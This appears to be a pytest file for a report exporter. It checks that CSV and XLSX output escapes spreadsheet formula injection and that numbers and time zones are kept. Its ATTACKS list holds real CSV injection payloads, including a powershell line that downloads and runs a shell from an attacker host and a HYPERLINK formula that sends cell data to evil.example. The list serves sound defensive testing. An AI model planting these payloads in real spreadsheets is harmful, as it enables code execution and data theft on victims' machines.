"""Files of reports: nothing in them runs, numbers stay numbers, moments carry their zone."""

import csv
import io
import json
import zipfile
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hark.reports.sheets import STARTS_FORMULA, Column, Sheet, harmless, write_sheet

AT = datetime(2026, 3, 29, 0, 30, tzinfo=UTC)
# payloadbox/csv-injection-payloads (MIT) and variants that hide the sign
ATTACKS = [
    '=DDE("cmd";"/C calc";"!A0")A0', "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＠SUM(1)", '=HYPERLINK("http://evil.example?x="&A1,"click")',
]  # fmt: skip


def sheet(*cells: str) -> Sheet:
    columns = (Column("subject", "Subject"), Column("seconds", "Seconds", "seconds"), Column("at", "At", "moment"))
    return Sheet(title="Cases", columns=columns, rows=[[c, -12.5, AT] for c in cells], about=[("=1", "=2")],
                 time_zone="Europe/Rome")  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula(attack: str) -> None:
    rows = list(csv.reader(io.StringIO(write_sheet(sheet(attack), "csv").decode("utf-8-sig"), newline="")))
    assert rows[1][0] == f"'{attack}"
    book = zipfile.ZipFile(io.BytesIO(write_sheet(sheet(attack), "xlsx")))
    for name in book.namelist():
        text = book.read(name).decode()
        assert "<f>" not in text, "a formula"
        assert "hyperlink" not in text, "a link"


@given(st.text(max_size=40))
def test_a_harmless_text_never_begins_like_a_formula_and_keeps_its_words(text: str) -> None:
    cell = harmless(text)
    assert not cell.startswith(STARTS_FORMULA)
    assert cell in (text, f"'{text}")


def test_numbers_stay_numbers_and_moments_name_their_zone() -> None:
    text = write_sheet(sheet("한국어 è"), "csv").decode("utf-8-sig")
    assert text.splitlines()[1] == "한국어 è,-12.5,2026-03-29T01:30:00+01:00"
    told = json.loads(write_sheet(sheet("=x"), "json"))
    assert told["rows"] == [{"subject": "=x", "seconds": -12.5, "at": "2026-03-29T01:30:00+01:00"}]
    assert told["time_zone"] == "Europe/Rome"
    book = zipfile.ZipFile(io.BytesIO(write_sheet(sheet("x"), "xlsx")))
    assert b"<v>-12.5</v>" in book.read("xl/worksheets/sheet1.xml")
    assert b"Europe/Rome" in book.read("xl/sharedStrings.xml")
